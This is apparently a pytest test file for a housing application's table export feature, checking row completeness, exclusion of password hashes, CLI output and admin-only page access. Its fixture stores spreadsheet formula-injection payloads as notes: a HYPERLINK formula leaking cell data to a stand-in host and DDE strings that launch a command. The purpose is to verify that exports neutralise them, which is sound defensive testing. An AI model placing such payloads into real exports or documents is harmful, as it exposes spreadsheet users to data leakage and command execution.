"""Export of every table (issue 6, item 4): all tables, all rows, no password hash, formulas
neutralised in CSV and XLSX, the command line, and the admin page."""

from __future__ import annotations

import argparse
import csv
import io
import json
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import text
from streamlit.testing.v1 import AppTest

from issue_core import tables
from issue_core.auth import SYSTEM, Actor
from issue_core.db import PROJECT_ROOT, create_issue_engine
from issue_core.errors import DomainError
from issue_core.i18n import LANGUAGES, catalogue, format_number
from issue_core.models import DERIVED_TABLES, Base, Role
from issue_core.services import contributions, placements, sites, users
from tests.conftest import run_page, use_database
from tests.world import World, row_counts

PAGE = str(PROJECT_ROOT / "pages" / "data_export.py")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
COMMAND = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
SECRET_PASSWORD = "Correct-horse-battery-9"


@pytest.fixture
def world(world) -> World:
    """tests/world.py's world, plus notes an attacker typed, a placement, a payment and an account."""
    engine = world.engine
    sites.create_site(engine, SYSTEM, name="Delta", commune="Ixelles", latitude=50.83, longitude=4.37,
                                housing_operator_id=world.hou, notes=COMMAND)
    placements.place_household(engine, world.admin, household_id=world.h_samu, unit_id=world.a1,
                               start_date=date(2024, 2, 1), notes=SUM)
    contributions.record_payment(engine, world.admin, world.h_samu, paid_on=date(2024, 2, 5), amount=Decimal("25"),
                                 period_months=date(2024, 2, 1), method="transfer", notes=HYPERLINK)
    users.create_user(engine, world.admin, username="marie", display_name="Marie", role="admin",
                      password=SECRET_PASSWORD)
    return world


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


# --- the list of tables ----------------------------------------------------------------------------


def test_every_table_of_the_models_is_exported_reference_data_first():
    names = tables.table_names()
    assert sorted(names) == sorted(set(Base.metadata.tables) - DERIVED_TABLES)
    assert names[:3] == ["organisation", "axis", "axis_operator"]
    assert names.index("household") < names.index("placement") < names.index("audit_event")


def test_every_table_has_a_translated_label():
    for language in LANGUAGES:
        assert [name for name in tables.table_names() if f"export.table.{name}" not in catalogue(language)] == []


def test_an_unknown_table_is_refused():
    with pytest.raises(DomainError) as refused:
        tables.table_frame(None, "pg_authid")  # type: ignore[arg-type]
    assert refused.value.key == "export.unknown_table"


# --- contents ----------------------------------------------------------------------------------------------


def test_every_row_of_every_table_without_password_hash(world):
    frames = tables.table_frames(world.engine)
    assert list(frames) == tables.table_names()
    counts = row_counts(world.engine)
    assert {name: len(frame) for name, frame in frames.items()} == {name: counts[name] for name in frames}
    assert "password_hash" not in frames["app_user"].columns
    assert list(frames["app_user"]["username"]) == ["marie"]
    assert list(frames["site"]["name"]) == ["Alpha", "Beta", "Gamma", "Delta"]  # by primary key
    for name, frame in frames.items():
        assert list(frame.columns) == [c.name for c in tables.exported_columns(name)]
        key = Base.metadata.tables[name].primary_key.columns.keys()
        assert list(frame.sort_values(key)[key].itertuples(index=False)) == list(frame[key].itertuples(index=False))
    assert tables.table_counts(world.engine).set_index("table")["rows"].to_dict() == {n: counts[n] for n in frames}


def test_json_columns_are_json_text_and_times_are_utc(world):
    audit = tables.table_frame(world.engine, "audit_event")
    payment_event = audit[audit["action"] == "payment.create"].iloc[0]
    assert json.loads(payment_event["after"])["payments"][0]["notes"] == HYPERLINK
    assert payment_event["before"] is None
    assert payment_event["at"].endswith("+00:00")
    assert isinstance(audit["id"].iloc[0], int)  # not 1.0


def test_no_password_hash_in_any_file(world):
    """Neither the column nor any bcrypt hash value, in any table, CSV or XLSX."""
    with world.engine.connect() as connection:
        stored_hash = connection.exec_driver_sql("SELECT password_hash FROM app_user").scalar_one()
    for name in tables.table_names():
        data = tables.tables_csv(world.engine, name)
        assert b"password_hash" not in data and stored_hash.encode() not in data and b"$2b$" not in data
    workbook = load_workbook(io.BytesIO(tables.tables_xlsx(world.engine)))
    values = {str(cell.value) for sheet in workbook for row in sheet.iter_rows() for cell in row}
    assert "password_hash" not in values and stored_hash not in values
    assert not any(value.startswith("$2b$") for value in values)


def test_formulas_come_out_neutralised_in_csv(world):
    site_rows = csv_rows(tables.tables_csv(world.engine, "site"))
    placement_rows = csv_rows(tables.tables_csv(world.engine, "placement"))
    payment_rows = csv_rows(tables.tables_csv(world.engine, "payment"))
    assert [row["notes"] for row in site_rows if row["name"] == "Delta"] == ["'" + COMMAND]
    assert [row["notes"] for row in placement_rows] == ["'" + SUM]
    assert [row["notes"] for row in payment_rows] == ["'" + HYPERLINK]
    assert payment_rows[0]["amount"] == "25.00" and payment_rows[0]["period_month"] == "2024-02-01"


def test_formulas_come_out_neutralised_in_xlsx(world):
    workbook = load_workbook(io.BytesIO(tables.tables_xlsx(world.engine)))
    assert workbook.sheetnames == [name[:31] for name in tables.table_names()]
    notes = {}
    for name in ("site", "placement", "payment"):
        sheet = workbook[name]
        header = [cell.value for cell in sheet[1]]
        column = header.index("notes")
        cells = [row[column] for row in sheet.iter_rows(min_row=2) if row[column].value is not None]
        assert all(cell.data_type == "s" for cell in cells), name  # text, never a formula ("f")
        notes[name] = [cell.value for cell in cells]
    assert notes == {"site": ["'" + COMMAND], "placement": ["'" + SUM], "payment": ["'" + HYPERLINK]}
    assert workbook["payment"].max_row == 2  # header + the one payment


def test_a_table_too_big_for_excel_is_refused_clearly(world, monkeypatch):
    monkeypatch.setattr(tables, "EXCEL_MAX_ROWS", 3)  # a sheet of two rows at most
    with pytest.raises(tables.TooManyRowsForExcel) as refused:
        tables.tables_xlsx(world.engine, ["household"])
    assert refused.value.message("en") == "Table household has 3 rows: an Excel sheet holds at most 2."
    assert len(csv_rows(tables.tables_csv(world.engine, "household"))) == 3


# --- the command line ------------------------------------------------------------------------------------


def export(engine, dest: Path) -> int:
    return tables.export_command(engine, argparse.Namespace(dest=str(dest)))


def test_cli_export_to_a_workbook(world, tmp_path, capsys):
    assert export(world.engine, tmp_path / "out" / "issue.xlsx") == 0
    workbook = load_workbook(tmp_path / "out" / "issue.xlsx")
    counts = row_counts(world.engine)
    assert {sheet.title: sheet.max_row - 1 for sheet in workbook} == {n: counts[n] for n in tables.table_names()}
    assert "19 tables exported" in capsys.readouterr().out


def test_cli_export_to_a_folder(world, tmp_path):
    assert export(world.engine, tmp_path / "csv") == 0
    files = sorted(path.name for path in (tmp_path / "csv").iterdir())
    assert files == sorted(f"{name}.csv" for name in tables.table_names())
    counts = row_counts(world.engine)
    for name in tables.table_names():
        assert len(csv_rows((tmp_path / "csv" / f"{name}.csv").read_bytes())) == counts[name], name
    assert csv_rows((tmp_path / "csv" / "payment.csv").read_bytes())[0]["notes"] == "'" + HYPERLINK


def test_cli_export_refuses_a_file_that_is_not_a_workbook(world, tmp_path, capsys):
    existing = tmp_path / "notes.txt"
    existing.write_text("keep me")
    assert export(world.engine, existing) == 2
    assert existing.read_text() == "keep me"
    assert "is a file, not a folder" in capsys.readouterr().err


def test_cli_export_refuses_a_workbook_excel_cannot_hold(world, tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(tables, "EXCEL_MAX_ROWS", 3)
    assert export(world.engine, tmp_path / "big.xlsx") == 2
    assert not (tmp_path / "big.xlsx").exists()
    assert "export to a folder instead" in capsys.readouterr().err


def test_cli_through_python_m(tmp_path, demo_url):
    """The real command line, wired in issue_core/__main__.py, on the demo database."""
    from issue_core.__main__ import main

    assert main(["--database-url", demo_url, "export", str(tmp_path / "demo.xlsx")]) == 0
    engine = create_issue_engine(demo_url)
    try:
        counts = row_counts(engine)
    finally:
        engine.dispose()
    workbook = load_workbook(tmp_path / "demo.xlsx", read_only=True)
    assert {sheet.title: sheet.max_row - 1 for sheet in workbook} == {n: counts[n] for n in tables.table_names()}


# --- the page ---------------------------------------------------------------------------------------------


def open_page(url: str, monkeypatch, actor: Actor) -> AppTest:
    use_database(monkeypatch, url)
    return run_page(PAGE, actor)


def test_page_lists_every_table_with_its_rows_and_downloads(demo_url, monkeypatch, deferred_downloads):
    app = open_page(demo_url, monkeypatch, Actor("admin", Role.ADMIN))
    engine = create_issue_engine(demo_url)
    try:
        counts = row_counts(engine)
        assert [title.value for title in app.title] == ["Exporter"]
        shown = [m.value for m in app.markdown]
        for name in tables.table_names():
            position = shown.index(f"{catalogue('fr')[f'export.table.{name}']}  \n`{name}`")
            assert shown[position + 1] == f"{format_number(counts[name], 'fr', 0)} ligne(s)"
        buttons = {button.key: button for button in app.get("download_button")}
        per_table = {f"{kind}-{name}" for name in tables.table_names() for kind in ("csv", "xlsx")}
        assert set(buttons) == {"xlsx-all"} | per_table
        assert not any(button.proto.disabled for button in buttons.values())
        # What a click would download: the table's rows, built only then.
        payment_csv = csv_rows(deferred_downloads["csv-payment"]())
        assert len(payment_csv) == counts["payment"]
        user_sheet = load_workbook(io.BytesIO(deferred_downloads["xlsx-app_user"]()))["app_user"]
        assert user_sheet.max_row - 1 == counts["app_user"]
        assert "password_hash" not in [cell.value for cell in user_sheet[1]]
        everything = load_workbook(io.BytesIO(deferred_downloads["xlsx-all"]()), read_only=True)
        assert everything.sheetnames == tables.table_names()
    finally:
        engine.dispose()


def test_large_tables_show_postgresql_s_estimate_and_small_ones_their_count(world, monkeypatch):
    """PostgreSQL counts a table by reading it (70 ms for 1.5 M payments): above COUNTED_UP_TO rows the page
    shows the planner's estimate, except near Excel's limit. SQLite keeps no estimate: it counts every table."""
    engine, on_postgresql = world.engine, world.engine.dialect.name == "postgresql"
    counts = {name: rows for name, rows in row_counts(engine).items() if name in tables.table_names()}
    if on_postgresql:  # fresh statistics, as autovacuum keeps them: each small table's estimate is its count
        with engine.connect() as connection:
            connection.execution_options(isolation_level="AUTOCOMMIT").execute(text("VACUUM ANALYZE"))
    monkeypatch.setattr(tables, "COUNTED_UP_TO", 2)  # the world's tables of 3 rows or more count as large
    large = {name for name, rows in counts.items() if rows > 2}
    assert {"site", "unit", "household", "audit_event"} <= large

    shown = tables.table_counts(engine).set_index("table")
    assert shown["rows"].to_dict() == counts
    assert set(shown.index[~shown["exact"]]) == (large if on_postgresql else set())

    app = open_page(engine.url.render_as_string(hide_password=False), monkeypatch, Actor("admin", Role.ADMIN))
    markdown = [m.value for m in app.markdown]
    sites = markdown[markdown.index(f"{catalogue('fr')['export.table.site']}  \n`site`") + 1]
    assert sites == (f"environ {counts['site']} lignes" if on_postgresql else f"{counts['site']} ligne(s)")
    hint = [caption.value for caption in app.caption if caption.value.startswith("Les tables de plus de 2 lignes")]
    assert len(hint) == on_postgresql

    # Within ESTIMATE_MARGIN of Excel's limit the count decides whether the table fits a sheet.
    monkeypatch.setattr(tables, "EXCEL_MAX_ROWS", counts["audit_event"])
    assert tables.table_counts(engine).set_index("table").loc["audit_event", "exact"]


@pytest.mark.parametrize("role", [Role.COORDINATOR, Role.DIRECTOR, Role.SCREEN])
def test_page_is_for_admins_only(demo_url, monkeypatch, role):
    app = open_page(demo_url, monkeypatch, Actor("someone", role, 1 if role != Role.SCREEN else None))
    assert [error.value for error in app.error] and not app.title
    assert not app.get("download_button")


def test_page_disables_xlsx_for_a_table_excel_cannot_hold(demo_url, monkeypatch):
    monkeypatch.setattr(tables, "EXCEL_MAX_ROWS", 1000)  # payment (1 000+ rows in the demo) no longer fits
    app = open_page(demo_url, monkeypatch, Actor("admin", Role.ADMIN))
    buttons = {button.key: button for button in app.get("download_button")}
    assert buttons["xlsx-payment"].proto.disabled and buttons["xlsx-all"].proto.disabled
    assert not buttons["csv-payment"].proto.disabled and not buttons["xlsx-site"].proto.disabled
    assert [warning.value for warning in app.warning] == [
        "Une table dépasse la limite d'Excel (999 lignes par feuille) : exportez-la en CSV ou utilisez la "
        "commande « python -m issue_core export DOSSIER »."
    ]

